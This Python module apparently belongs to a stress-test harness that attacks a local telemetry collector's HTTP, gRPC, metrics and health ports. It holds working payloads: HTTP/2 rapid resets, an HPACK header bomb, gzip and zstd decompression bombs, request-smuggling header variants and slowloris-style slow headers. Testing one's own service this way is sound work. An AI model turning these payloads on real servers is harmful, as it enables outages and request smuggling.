"""Attacks by what HTTP carries and how: pipelines, frames, chunks, compression, the ports for metrics and health."""

import collections
import contextlib
import gzip
import http.client
import os
import random
import socket
import struct
import threading
import time

from harness import (HEADERS, HTTP1, PREFACE, agent, close, drain, for_seconds, frame, literal, request, tool, trace)

MEMBERS = gzip.compress(b"") * 200_000
ZEROS = gzip.compress(b"\0" * 60_000_000, 9)
# Of zstd: a window of 2 GiB, a skippable frame of 4 GiB, many empty ones.
FRAMES = [b"\x28\xb5\x2f\xfd\x00\xa8\x01\x00\x00", struct.pack("<II", 0x184D2A50, 2**32 - 1) + b"x" * 1000,
          struct.pack("<II", 0x184D2A50, 0) * 500_000]
ANSWERED = contextlib.suppress(OSError)


def message(body, flag=b"\0"):
    """A message of gRPC."""
    return flag + struct.pack(">I", len(body)) + body


def asked(path):
    """Headers of a GET."""
    pairs = [(b":method", b"GET"), (b":scheme", b"http"), (b":path", path), (b":authority", b"x")]
    return b"".join(literal(*pair) for pair in pairs)


def until(seconds, connect, send):
    """Opens connections one after the other, and sends over each for as long as it is taken."""
    end, sent = time.monotonic() + seconds, 0
    while time.monotonic() < end:
        with ANSWERED:
            connection = connect()
            try:
                while time.monotonic() < end:
                    sent += send(connection)
                    drain(connection)
            finally:
                connection.close()
    return sent


def plain(port):
    return socket.create_connection(("127.0.0.1", port), 3)


def plain_http2(port):
    connection = plain(port)
    connection.sendall(PREFACE + frame(4, 0, 0))
    return connection


def pipeline(requests, timeout):
    """Requests one behind the other over 300 connections, whose answers nobody reads."""
    def attack(collector, seconds):
        held, sent, end = [], 0, time.monotonic() + seconds
        while time.monotonic() < end and len(held) < 300:
            with ANSWERED:
                held.append(collector.open(collector.http))
                held[-1].settimeout(timeout)
                while time.monotonic() < end:
                    held[-1].sendall(requests)
                    sent += 1
        time.sleep(max(0.0, end - time.monotonic()))
        close(held)
        return sent
    return attack


def whole():
    body = trace()
    return HTTP1 + b"Content-Length: %d\r\n\r\n" % len(body) + body


def no_window(collector, seconds):
    """Whole calls on 128 streams of 100 connections, whose answers find no window."""
    calls = b"".join(frame(1, 4, 1 + 2 * n, HEADERS) + frame(0, 1, 1 + 2 * n, message(trace())) for n in range(128))
    held, end = [], time.monotonic() + seconds
    for _ in range(100):
        with ANSWERED:
            held.append(collector.open(collector.grpc, "h2"))
            held[-1].sendall(PREFACE + frame(4, 0, 0, struct.pack(">HI", 4, 0)) + calls)
    time.sleep(max(0.0, end - time.monotonic()))
    return close(held)


def held_connections(collector, seconds):
    """1,200 connections, each kept by a request now and then and opened again where it went, while others open one for
    each request: what these are answered."""
    going, held = True, [None] * 1200
    def keep(place):
        with ANSWERED:
            held[place] = held[place] or collector.open(collector.http)
            held[place].settimeout(0.3)
            held[place].sendall(b"GET /x HTTP/1.1\r\nHost: x\r\n\r\n")
            if held[place].recv(1000):
                return
        if held[place]:
            held[place].close()
        held[place] = None
    def keep_all():
        while going:
            for place in range(len(held)):
                keep(place)
    for place in range(len(held)):
        keep(place)
    keeping = threading.Thread(target=keep_all)
    keeping.start()
    answers = for_seconds(seconds, lambda: collector.post(trace(), timeout=5), 2)
    going = False
    keeping.join()
    close([one for one in held if one])
    return answers


def one_byte_frames(collector, seconds):
    """Frames of data of one byte, on 64 streams of 30 connections."""
    begin = b"".join(frame(1, 4, 1 + 2 * n, HEADERS) for n in range(64))
    more = b"".join(frame(0, 0, 1 + 2 * n, b"\0") for n in range(64))
    held, sent, end = [], 0, time.monotonic() + seconds
    for _ in range(30):
        with ANSWERED:
            held.append(collector.http2())
            held[-1].sendall(begin)
    while time.monotonic() < end:
        for connection in held:
            with ANSWERED:
                connection.sendall(more)
                drain(connection)
                sent += 64
    close(held)
    return sent


def header_bomb(collector, seconds):
    """A header of 4 KB in the table, that each request refers to 14,000 times."""
    number = iter(range(3, 1 << 30, 2))
    def connect():
        connection = collector.http2()
        connection.sendall(frame(1, 4, 1, HEADERS + b"\x40\x01a\x7f\x81\x1e" + b"z" * 3968))
        return connection
    def send(connection):
        connection.sendall(frame(1, 5, next(number), HEADERS + b"\xbe" * 14_000))
        return 1
    return until(seconds, connect, send)


def changed_settings(collector, seconds):
    """The size of the table and the window changed all the time, with 128 streams open."""
    changes = b"".join(frame(4, 0, 0, struct.pack(">HIHI", 4, v, 1, v)) for v in (0, 2**31 - 1, 1, 65535) * 20)
    def connect():
        connection = collector.http2()
        connection.sendall(b"".join(frame(1, 4, 1 + 2 * n, HEADERS) for n in range(128)))
        return connection
    def send(connection):
        connection.sendall(changes)
        return 80
    return until(seconds, connect, send)


def padding(collector, seconds):
    """Data that is nothing but padding."""
    def connect():
        connection = collector.http2()
        connection.sendall(frame(1, 4, 1, HEADERS))
        return connection
    def send(connection):
        connection.sendall(frame(0, 8, 1, b"\xff" + b"\0" * 255) * 200)
        return 200
    return until(seconds, connect, send)


def compressed_calls(collector, seconds):
    """Messages of gRPC that are 60 MB of zeros, 64 at a time."""
    data = message(ZEROS, b"\1")
    frames = [data[at:at + 16384] for at in range(0, len(data), 16384)]
    head = HEADERS + literal(b"grpc-encoding", b"gzip")
    def send(connection):
        for stream in range(1, 129, 2):
            connection.sendall(frame(1, 4, stream, head))
            for number, part in enumerate(frames):
                connection.sendall(frame(0, int(number + 1 == len(frames)), stream, part))
        raise OSError
    return until(seconds, collector.http2, send)


def lying_lengths(collector, seconds):
    """Messages of gRPC of 4 GiB, several in a call, unknown flags, none."""
    good = message(trace())
    forms = [b"\0\xff\xff\xff\xff" + b"x" * 100, good * 50, b"\1" + good[1:], b"\xff" + good[1:], b"", b"\0\0",
             b"\0\0\0\0\0" * 1000] * 8
    def call(stream, form):
        parts = b"".join(frame(0, 0, stream, form[at:at + 16000]) for at in range(0, len(form), 16000))
        return frame(1, 4, stream, HEADERS) + parts + frame(0, 1, stream)
    calls = b"".join(call(1 + 2 * number, form) for number, form in enumerate(forms))
    def send():
        try:
            connection = collector.http2()
            connection.sendall(calls)
            connection.recv(1)
            connection.close()
            return "answered"
        except OSError as error:
            return type(error).__name__
    return for_seconds(seconds, send, 8)


def small_chunks(collector, seconds):
    """Bodies in chunks of one byte, each with an extension, and 80 trailers."""
    chunks = b"".join(b"1;a=xxxxxxxxxx\r\n%c\r\n" % byte for byte in trace() * 20)
    trailers = b"".join(b"T%d: %s\r\n" % (n, b"y" * 50) for n in range(80))
    sent = HTTP1 + b"Transfer-Encoding: chunked\r\n\r\n" + chunks + b"0\r\n" + trailers + b"\r\n"
    def send():
        try:
            connection = collector.open(collector.http)
            connection.settimeout(20)
            connection.sendall(sent)
            status = connection.recv(100)[9:12].decode()
            connection.close()
            return status
        except OSError as error:
            return type(error).__name__
    return for_seconds(seconds, send, 4)


def two_meanings(collector, seconds):
    """Requests whose ends two servers would see at other places, each with another behind it."""
    chunked = b"Transfer-Encoding: chunked\r\n"
    forms = [b"Content-Length: 4\r\n" + chunked + b"\r\n0\r\n\r\n",
             chunked + b"Transfer-Encoding: identity\r\n\r\n0\r\n\r\n",
             b"Content-Length: 5\r\nContent-Length: 6\r\n\r\nhello!", b"Content-Length: +5\r\n\r\nhello",
             b"Content-Length: 5, 5\r\n\r\nhello", b"Transfer-Encoding:\x0bchunked\r\n\r\n0\r\n\r\n",
             chunked + b"\r\n0x5\r\nhello\r\n0\r\n\r\n", chunked + b"\r\nfffffffffffffffff\r\nhello",
             chunked + b"\r\n5\nhello\n0\n\n", b"Content-Length : 5\r\n\r\nhello",
             b"X: a\r\n Content-Length: 5\r\n\r\nhello",
             b"Expect: 100-continue\r\nContent-Length: 5\r\n\r\nhello"]
    seen, end = collections.Counter(), time.monotonic() + seconds
    for form in forms:
        with ANSWERED:
            connection = collector.open(collector.http)
            connection.settimeout(0.5)
            connection.sendall(HTTP1 + form + b"GET /behind HTTP/1.1\r\nHost: x\r\n\r\n")
            got = b""
            with ANSWERED:
                while part := connection.recv(65536):
                    got += part
            connection.close()
            # A 404 is an answer to what stood behind.
            seen[tuple(answer[:3].decode() for answer in got.split(b"HTTP/1.1 ")[1:])] += 1
    time.sleep(max(0.0, end - time.monotonic()))
    return dict(seen)


def from_pages(collector, seconds):
    """Requests that a page of the web may send without asking: no content type, text, forms."""
    def send():
        client = collector.client(5)
        try:
            client.putrequest("POST", "/v1/traces")
            kind = random.choice([None, "text/plain", "application/x-www-form-urlencoded", "multipart/form-data"])
            body = trace()
            if kind:
                client.putheader("Content-Type", kind)
            client.putheader("Origin", "http://elsewhere.example")
            client.putheader("Content-Length", str(len(body)))
            client.endheaders(body)
            answer = client.getresponse()
            return f"{answer.status} {answer.getheader('access-control-allow-origin')}"
        except (OSError, http.client.HTTPException) as error:
            return type(error).__name__
        finally:
            client.close()
    return for_seconds(seconds, send, 2)


def posted(bodies, encoding, threads=2):
    def attack(collector, seconds):
        return for_seconds(seconds, lambda: collector.post(random.choice(bodies), encoding), threads)
    return attack


def reset_at_once(collector, seconds):
    """Connections that are opened and reset."""
    sent, end = 0, time.monotonic() + seconds
    while time.monotonic() < end:
        with ANSWERED:
            connection = plain(collector.grpc)
            connection.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
            connection.close()
            sent += 1
    return sent


def series(collector):
    """1,200 series with long names."""
    for first in range(60):
        ids = [(os.urandom(16), os.urandom(8)) for _ in range(20)]
        collector.post(b"".join(request([agent(own, root), tool(own, root, "x")], f"service-{first}-{n}-" + "y" * 150)
                                for n, (own, root) in enumerate(ids)))
    time.sleep(2)


def unread_scrapes(collector, seconds):
    """Sixty scrapes at a time that nobody reads."""
    series(collector)
    sent, end = 0, time.monotonic() + seconds
    while time.monotonic() < end:
        held = []
        for _ in range(60):
            with ANSWERED:
                held.append(plain(collector.metrics_port))
                held[-1].setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 2048)
                held[-1].sendall(b"GET /metrics HTTP/1.1\r\nHost: x\r\n\r\n" * 20)
                sent += 20
        time.sleep(0.3)
        close(held)
    return sent


def scrapes(collector, seconds):
    """Scrapes as fast as they come."""
    series(collector)
    def get():
        try:
            return f"{len(collector.get(collector.metrics_port, '/metrics', 20)) // 100_000} x 100 KB"
        except OSError as error:
            return type(error).__name__
    return for_seconds(seconds, get, 8)


def scrape_streams(collector, seconds):
    """60 connections of 100 streams that each ask for the page and give it no window."""
    series(collector)
    asks = PREFACE + frame(4, 0, 0, struct.pack(">HI", 4, 0))
    asks += b"".join(frame(1, 5, 1 + 2 * n, asked(b"/metrics")) for n in range(100))
    held, end = [], time.monotonic() + seconds
    while time.monotonic() < end:
        for _ in range(60):
            with ANSWERED:
                held.append(plain(collector.metrics_port))
                held[-1].sendall(asks)
        time.sleep(1.5)
    return close(held)


def slow_probes(collector, seconds):
    """Headers letter by letter on the ports for metrics and health, 200 connections each."""
    held, end = [], time.monotonic() + seconds
    for port in (collector.metrics_port, collector.health):
        for _ in range(200):
            with ANSWERED:
                held.append(plain(port))
                held[-1].sendall(b"GET /livez HTTP/1.1\r\nX: ")
    while time.monotonic() < end:
        for connection in held:
            with ANSWERED:
                connection.sendall(b"a")
        time.sleep(0.5)
    return close(held)


def flood_of(port, frames):
    def attack(collector, seconds):
        def send(connection):
            connection.sendall(frames * 200)
            return 200
        return until(seconds, lambda: plain_http2(port(collector)), send)
    return attack


def resets_of(port, path):
    def attack(collector, seconds):
        streams = iter(range(1, 1 << 30, 2))
        def send(connection):
            numbers = [next(streams) for _ in range(50)]
            connection.sendall(b"".join(frame(1, 5, n, asked(path)) + frame(3, 0, n, b"\0\0\0\x08") for n in numbers))
            return 50
        return until(seconds, lambda: plain_http2(port(collector)), send)
    return attack


HTTP = {
    "pipelined": pipeline(whole() * 50, 0.3),
    "refused_pipeline": pipeline(b"GET /x HTTP/1.1\r\nHost: x\r\n\r\n" * 200, 0.2),
    "held_connections": held_connections, "no_window": no_window, "one_byte_frames": one_byte_frames, "header_bomb": header_bomb,
    "changed_settings": changed_settings, "padding": padding, "compressed_calls": compressed_calls,
    "lying_lengths": lying_lengths, "small_chunks": small_chunks, "two_meanings": two_meanings,
    "from_pages": from_pages,
    "empty_members": posted([MEMBERS], "gzip"), "compressed_twice": posted([gzip.compress(ZEROS)], "gzip, gzip"),
    "zeros": posted([ZEROS], "gzip", 16),
    "frames_of_zstd": posted(FRAMES, "zstd"),
    "reset_at_once": reset_at_once, "unread_scrapes": unread_scrapes, "scrapes": scrapes,
    "scrape_streams": scrape_streams, "slow_probes": slow_probes,
    "pings_for_metrics": flood_of(lambda it: it.metrics_port, frame(6, 0, 0, b"12345678")),
    "settings_for_health": flood_of(lambda it: it.health, frame(4, 0, 0, struct.pack(">HI", 3, 100) * 10)),
    "resets_for_metrics": resets_of(lambda it: it.metrics_port, b"/metrics"),
    "resets_for_health": resets_of(lambda it: it.health, b"/livez"),
}
